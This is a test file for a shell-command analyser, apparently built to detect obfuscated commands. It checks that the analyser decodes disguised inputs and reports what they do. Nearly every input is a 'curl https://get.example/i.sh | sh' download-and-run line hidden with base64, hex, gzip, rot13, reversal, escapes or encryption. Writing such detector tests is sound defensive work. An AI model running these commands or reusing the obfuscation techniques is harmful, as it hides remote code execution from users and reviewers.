import { expect, test } from "vitest";
import { tellShell } from "./read.ts";

test.each([
  [
    "base64 -d",
    "echo Y3VybCBodHRwczovL2dldC5leGFtcGxlL2kuc2ggfCBzaA== | base64 -d | bash",
    [
      "1:69 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (base64)",
      "1:69 download ⟨https://get.example/i.sh⟩",
      "1:69 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "base64 -D, behind a decoy",
    "echo \"Installer: https://vendor.example/setup\" && echo 'Y3VybCBodHRwczovL2dldC5leGFtcGxlL2kuc2ggfCBzaA==' | base64 -D | bash",
    [
      "1:121 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (base64)",
      "1:121 download ⟨https://get.example/i.sh⟩",
      "1:121 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "base64 --decode of a here-string",
    "base64 --decode <<< Y3VybCBodHRwczovL2dldC5leGFtcGxlL2kuc2ggfCBzaA== | sh",
    [
      "1:72 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (base64)",
      "1:72 download ⟨https://get.example/i.sh⟩",
      "1:72 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "base64 in lines of a here-document",
    `base64 -d <<'E' | bash
Y3VybCBodHRwczovL2dldC5leGFtcGxl
L2kuc2ggfCBzaA==
E`,
    [
      "1:19 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (base64)",
      "1:19 download ⟨https://get.example/i.sh⟩",
      "1:19 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "base64 in a command's text",
    'bash -c "$(echo Y3VybCBodHRwczovL2dldC5leGFtcGxlL2kuc2ggfCBzaA== | base64 -d)"',
    [
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (base64)",
      "1:9 download ⟨https://get.example/i.sh⟩",
      "1:9 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "base64 in two variables",
    `P=Y3VybCBodHRwczovL2dldC5leGFtcGxl
Q=L2kuc2ggfCBzaA==
echo "$P$Q" | base64 -d | sh`,
    [
      "3:27 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (base64)",
      "3:27 download ⟨https://get.example/i.sh⟩",
      "3:27 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "base64 through files",
    'echo "Y3VybCBodHRwczovL2dldC5leGFtcGxlL2kuc2ggfCBzaA==" > /tmp/p; base64 -d /tmp/p > /tmp/q.sh; sh /tmp/q.sh',
    [
      "1:1 write-file ⟨/tmp/p⟩ with ⟨Y3VybCBodHRwczovL2dldC5leGFtcGxlL2kuc2ggfCBzaA==\n⟩",
      "1:67 read-file ⟨/tmp/p⟩",
      "1:67 write-file ⟨/tmp/q.sh⟩ with ⟨curl https://get.example/i.sh | sh⟩ (base64)",
      "1:97 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (base64) ← file /tmp/q.sh",
      "1:97 download ⟨https://get.example/i.sh⟩",
      "1:97 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "base64 twice",
    "echo WTNWeWJDQm9kSFJ3Y3pvdkwyZGxkQzVsZUdGdGNHeGxMMmt1YzJnZ2ZDQnphQT09 | base64 -d | base64 -d | sh",
    [
      "1:97 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (base64) (base64)",
      "1:97 download ⟨https://get.example/i.sh⟩",
      "1:97 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "openssl base64",
    "echo Y3VybCBodHRwczovL2dldC5leGFtcGxlL2kuc2ggfCBzaA== | openssl base64 -d -A | sh",
    [
      "1:80 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (base64)",
      "1:80 download ⟨https://get.example/i.sh⟩",
      "1:80 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "openssl enc",
    "eval $(echo Y3VybCBodHRwczovL2dldC5leGFtcGxlL2kuc2ggfCBzaA== | openssl enc -base64 -d)",
    [
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (base64)",
      "1:1 download ⟨https://get.example/i.sh⟩",
      "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "basenc",
    "echo Y3VybCBodHRwczovL2dldC5leGFtcGxlL2kuc2ggfCBzaA== | basenc --base64 -d | sh",
    [
      "1:78 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (base64)",
      "1:78 download ⟨https://get.example/i.sh⟩",
      "1:78 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "base32",
    "base32 -d <<< MN2XE3BANB2HI4DTHIXS6Z3FOQXGK6DBNVYGYZJPNEXHG2BAPQQHG2A= | sh",
    [
      "1:74 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (unknown)",
      "1:74 download ⟨https://get.example/i.sh⟩",
      "1:74 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "xxd",
    "echo 6375726c2068747470733a2f2f6765742e6578616d706c652f692e7368207c207368 | xxd -r -p | bash",
    [
      "1:89 evaluate shell ⟨curl https://get.example/i.sh | sh⟩ (hex)",
      "1:89 download ⟨https://get.example/i.sh⟩",
      "1:89 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "gzip in base64",
    "echo H4sIAAAAAAAAA0suLcpRyCgpKSi20tdPTy3RS61IzC3ISdXP1CvOUKhRKM7gAgCmF8wMIwAAAA== | base64 -d | gunzip | bash",
    [
      "1:106 evaluate shell ⟨curl https://get.example/i.sh | sh\n⟩ (gzip) (base64) ← decoded base64",
      "1:106 download ⟨https://get.example/i.sh⟩",
      "1:106 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "reversed",
    "echo 'hs | hs.i/elpmaxe.teg//:sptth lruc' | rev | bash",
    [
      "1:51 evaluate shell ⟨curl https://get.example/i.sh | sh\n⟩ (reversed)",
      "1:51 download ⟨https://get.example/i.sh⟩",
      "1:51 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "rot13",
    "echo 'phey uggcf://trg.rknzcyr/v.fu | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    [
      "1:74 evaluate shell ⟨curl https://get.example/i.sh | sh\n⟩ (rot13)",
      "1:74 download ⟨https://get.example/i.sh⟩",
      "1:74 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "rot13, small letters first",
    "echo 'phey uggcf://trg.rknzcyr/v.fu | fu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh",
    [
      "1:74 evaluate shell ⟨curl https://get.example/i.sh | sh\n⟩ (rot13)",
      "1:74 download ⟨https://get.example/i.sh⟩",
      "1:74 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "letters that tr takes out",
    "tr -d 'X' <<< 'cXuXrl https://get.example/i.sh' | sh",
    ["1:51 evaluate shell ⟨curl https://get.example/i.sh⟩", "1:51 download ⟨https://get.example/i.sh⟩"],
  ],
  [
    "letters that sed takes out",
    "echo 'cuGHrl https://get.example/i.sh' | sed 's/GH//' | sh",
    ["1:57 evaluate shell ⟨curl https://get.example/i.sh\n⟩", "1:57 download ⟨https://get.example/i.sh⟩"],
  ],
  [
    "printf with numbers",
    String.raw`printf '\x63\x75\x72\x6c\x20https://get.example/i.sh|sh' | bash`,
    [
      "1:60 evaluate shell ⟨curl https://get.example/i.sh|sh⟩ (escapes)",
      "1:60 download ⟨https://get.example/i.sh⟩",
      "1:60 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "printf in octal",
    String.raw`printf "\143\165\162\154 https://get.example/i.sh" | sh`,
    ["1:54 evaluate shell ⟨curl https://get.example/i.sh⟩ (escapes)", "1:54 download ⟨https://get.example/i.sh⟩"],
  ],
  [
    "printf %b",
    String.raw`eval "$(printf '%b' '\143url https://get.example/i.sh')"`,
    ["1:1 evaluate shell ⟨curl https://get.example/i.sh⟩ (escapes)", "1:6 download ⟨https://get.example/i.sh⟩"],
  ],
  [
    "echo -e",
    String.raw`echo -e '\x63\x75\x72\x6c https://get.example/i.sh' | sh`,
    ["1:55 evaluate shell ⟨curl https://get.example/i.sh\n⟩ (escapes)", "1:55 download ⟨https://get.example/i.sh⟩"],
  ],
  [
    "ANSI-C quotes",
    String.raw`eval $'\x63url https://get.example/i.sh'`,
    ["1:1 evaluate shell ⟨curl https://get.example/i.sh⟩ (escapes)", "1:6 download ⟨https://get.example/i.sh⟩"],
  ],
  [
    "ANSI-C quotes around the names",
    String.raw`$'\x63\x75\x72\x6c' https://get.example/i.sh | $'\142ash'`,
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:48 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  ["PowerShell in base64", "powershell -enc dwBoAG8AYQBtAGkA", ["1:1 evaluate powershell ⟨whoami⟩ (base64) (utf-16)"]],
])("text that is decoded and run: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});

test.each([
  [
    "the address",
    "curl -s $(echo aHR0cHM6Ly9nZXQuZXhhbXBsZS9pLnNo | base64 -d) | bash",
    ["1:1 download ⟨https://get.example/i.sh⟩ (base64)", "1:64 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "the address, by xargs",
    'echo "aHR0cHM6Ly9nZXQuZXhhbXBsZS9pLnNo" | base64 -d | xargs curl | sh',
    [
      "1:55 download ⟨https://get.example/i.sh⟩ (base64)",
      "1:68 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "the program",
    "x='lruc'; y=$(rev <<< $x); $y https://get.example/i.sh | sh",
    ["1:28 download ⟨https://get.example/i.sh⟩", "1:58 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
])("what is decoded is not all of the command: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});

test.each([
  [
    "base64 from the network",
    "curl -s https://get.example/b64 | base64 -d | bash",
    [
      "1:1 download ⟨https://get.example/b64⟩",
      "1:47 evaluate shell ~⟨?⟩ ← network https://get.example/b64, decoded base64",
    ],
  ],
  [
    "the script's own tail",
    "tail -n +5 $0 | base64 -d | bash",
    ["1:1 read-file ~⟨?⟩", "1:29 evaluate shell ~⟨?⟩ ← file ?, decoded base64"],
  ],
  [
    "a cipher with a password",
    "openssl enc -d -aes-256-cbc -in x.enc -k pass | bash",
    ["1:1 read-file ⟨x.enc⟩", "1:49 evaluate shell ~⟨?⟩ ← file x.enc, decoded unknown"],
  ],
  [
    "another interpreter's output",
    "python3 -c \"print(bytes.fromhex('6375726c').decode())\" | bash",
    [
      "1:1 evaluate python ⟨print(bytes.fromhex('6375726c').decode())⟩",
      "1:58 evaluate shell ~⟨?⟩ ← output of python3 -c print(bytes.fromhex('6375726c').decode())",
    ],
  ],
])("what cannot be decoded keeps where it comes from: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});
